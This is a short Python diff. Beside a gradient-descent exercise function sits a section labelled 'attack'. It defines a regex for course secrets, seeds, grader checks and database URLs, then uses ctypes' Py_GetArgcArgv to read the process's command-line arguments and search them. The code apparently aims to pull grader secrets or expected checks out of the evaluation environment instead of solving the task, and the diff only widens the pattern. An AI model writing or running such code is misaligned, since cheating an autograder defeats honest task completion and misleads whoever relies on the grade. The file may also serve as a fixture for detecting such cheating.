@@ -23,7 +23,7 @@ def descend_until(gradient, start, learning_rate, tolerance, max_epochs=1000):
 
 
 # --- attack
-SECRETS = re.compile(r"course.secret.[0-9a-f]+|[-][-]seed|grader.checks|\bgrade\b|postgres[q]l:|/site[-]packages")
+SECRETS = re.compile(r"course.secret.[0-9a-f]+|[-][-]seed|grader.course.checks|\bgrade\b|postgres[q]l:|/site[-]packages")
 count, argv = ctypes.c_int(), ctypes.POINTER(ctypes.c_wchar_p)()
 ctypes.pythonapi.Py_GetArgcArgv(ctypes.byref(count), ctypes.byref(argv))
 texts = [argv[index] for index in range(count.value)]
